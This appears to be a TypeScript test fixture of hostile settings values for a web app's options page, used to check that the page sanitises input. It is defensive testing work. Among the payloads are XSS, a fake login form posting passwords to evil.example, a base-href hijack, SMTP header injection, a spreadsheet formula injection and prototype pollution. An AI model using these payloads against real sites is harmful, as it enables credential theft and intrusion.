/**
 * Options with hostile markup, URLs and JSON. GroupRatio stays valid, so that group lists keep working.
 */
export const hostileOptions: Readonly<Record<string, string>> = {
  SystemName: '<img src=x onerror=window.__xss=1>\u202E',
  Logo: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss=1'/>",
  Footer: [
    '<img src=x onerror=window.__xss=1><script>window.__xss=1</script>',
    '<a href="java&#x09;script:window.__xss=1">x</a><iframe src="javascript:parent.__xss=1"></iframe>',
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
    '<svg><style>@import url(https://evil.example/z)</style></svg><img srcset="https://evil.example/s 1x">',
    '<b>ok</b> <a href="/about">about</a>',
  ].join('\n'),
  Notice: [
    '# Notice <img src=x onerror=window.__xss=1>',
    '[x](javascript:window.__xss=1) ![a](x"onerror="window.__xss=1) <javascript:window.__xss=1>',
    '<form action="https://evil.example/steal"><input name=password type=password><button>Log in again</button></form>',
    '<img src="/%61pi/user/token"><img src="/x/../api/user/token"><a href="//evil.example/">x</a>',
  ].join('\n\n'),
  About: '<xmp><img src="</xmp><img src=x onerror=window.__xss=1>">\n<base href="https://evil.example/">',
  HomePageContent: `${'> '.repeat(20_000)}x <details open ontoggle=window.__xss=1>x</details>`,
  TopUpLink: 'https://user:pw@evil.example/',
  ChatLink: 'javascript://ok.example/%0awindow.__xss=1',
  ServerAddress: '//evil.example/',
  WeChatAccountQRCodeImageURL: '/api/user/logout',
  GitHubClientId: '"><script>window.__xss=1</script>&state=stolen',
  LarkClientId: '../../user/logout?x=y#z',
  EmailDomainWhitelist: " ,example.com,,<b>x</b>,=cmd|' /C calc'!A0",
  SMTPServer: 'mail.example\r\nBcc: everybody@evil.example',
  SMTPPort: 'five hundred',
  RetryTimes: '1.5',
  ModelRatio: '{"gpt-4":"15","__proto__":{"polluted":1}}',
  CompletionRatio: '{"a":1,}',
  GroupRatio:
    '{"__proto__":1,"constructor":1,"default":1,"gpt-4,gpt-4o":1,"svip":1,"toString":1,"vip":1,"<img src=x onerror=window.__xss=1>":2}',
  Theme: 'berry',
  'an unknown key <b>x</b>': 'kept and listed all the same',
}
